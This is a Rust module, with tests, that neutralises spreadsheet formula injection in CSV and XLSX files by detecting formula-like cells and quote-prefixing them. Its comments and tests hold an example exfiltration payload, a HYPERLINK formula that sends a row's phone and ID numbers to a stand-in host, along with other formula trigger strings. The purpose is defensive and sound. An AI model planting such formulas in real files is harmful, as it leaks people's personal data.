//! Cells siyu writes into files a person opens in Excel or WPS: none may be read as a formula.
//!
//! A cell whose text starts with `=`, `+`, `-` or `@` is evaluated by spreadsheet programs, and so is
//! one that starts with whitespace followed by such a character (some programs drop it on import). A customer file is hostile input: a "name" of
//! `=HYPERLINK("https://x/?"&C2&D2,"fix")` in a rejected-rows report would send that row's phone and ID
//! number away when the report is opened. Every cell of every CSV or XLSX siyu writes goes through
//! [`is_formula_like`]; CSV writers then prefix such a cell with `'`, XLSX writers mark it quote-prefixed
//! (text shown as typed, never evaluated, even when edited).

use std::borrow::Cow;

/// Whether a spreadsheet program could take the cell for a formula. Full-width forms are included:
/// some input methods type `＝` where `=` was meant, and a program that normalises them would evaluate.
/// Leading whitespace is looked past: some programs trim it before deciding.
pub fn is_formula_like(cell: &str) -> bool {
    cell.starts_with(['\t', '\r', '\n']) || cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// The cell as a CSV should hold it: prefixed with `'` when formula-like, else unchanged.
pub fn csv_cell(cell: &str) -> Cow<'_, str> {
    if is_formula_like(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_triggers_are_neutralised_and_plain_text_is_not() {
        for bad in [
            "=HYPERLINK(\"https://x/?\"&C2&D2,\"fix\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            " =1",
            "\u{3000}=1",
        ] {
            assert!(is_formula_like(bad), "{bad:?}");
            assert_eq!(csv_cell(bad), format!("'{bad}"));
        }
        for fine in ["王芳", "13812341234", "C3", "", " ", "a=b", "'=x", "1-2"] {
            assert!(!is_formula_like(fine), "{fine:?}");
            assert_eq!(csv_cell(fine), fine);
        }
    }
}
